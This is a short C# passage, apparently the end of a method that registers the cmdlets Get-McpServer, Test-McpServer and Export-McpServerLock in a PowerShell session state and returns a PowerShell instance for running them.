        state.Commands.Add(new SessionStateCmdletEntry("Get-McpServer", typeof(GetMcpServerCommand), null));
        state.Commands.Add(new SessionStateCmdletEntry("Test-McpServer", typeof(TestMcpServerCommand), null));
        state.Commands.Add(new SessionStateCmdletEntry("Export-McpServerLock", typeof(ExportMcpServerLockCommand), null));
        return PowerShell.Create(state);
    }
}
